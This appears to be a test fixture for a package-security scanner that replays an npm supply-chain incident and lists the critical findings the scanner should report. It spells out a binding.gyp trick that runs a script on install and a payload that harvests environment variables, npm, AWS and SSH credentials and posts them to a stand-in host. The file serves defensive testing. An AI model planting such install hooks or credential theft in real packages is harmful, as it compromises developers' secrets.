import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

/** 157 bytes, as many as in the incident. */
const gyp = `{
  "targets": [
    {
      "target_name": "init",
      "type": "none",
      "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]
    }
  ]
}
`

/** Megabytes in the incident. */
const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
async function $main(){const $found=[JSON[«stringify»](process[«env»])];
for(const $place of [«.npmrc»,«.aws/credentials»,«.ssh/id_rsa»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
await fetch(«https://sdk-telemetry.example/v1»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  800,
)

const manifest = { main: 'dist/index.js' }
const files = { 'dist/index.js': compiledQueue }

export const replay = replayUpgrade({
  description:
    'Packages without a single script carried a binding.gyp whose command ran a script while it named a source file that did not ' +
    'exist. npm starts node-gyp for such a file by itself.',
  date: '2026-06-03',
  name: '@vapi-ai/server-sdk',
  from: ['1.2.1', { manifest, files }],
  to: ['1.2.2', { manifest, files: { ...files, 'binding.gyp': gyp, 'index.js': payload } }],
  findings: [
    ['install-script-dangerous', 'critical', { file: 'index.js', line: payload }],
    ['secrets-exfiltrated', 'critical', { file: 'index.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'index.js', line: payload }],
    ['combined-risk', 'critical'],
    ['capability-added', 'high', { file: 'index.js', line: payload }],
    ['code-obfuscated', 'high', { file: 'index.js' }],
    ['implicit-build-added', 'high', { file: 'binding.gyp' }],
    ['beacon-added', 'high', { file: 'index.js', line: payload }],
    ['network-host-added', 'medium', { file: 'index.js', line: payload }],
  ],
})
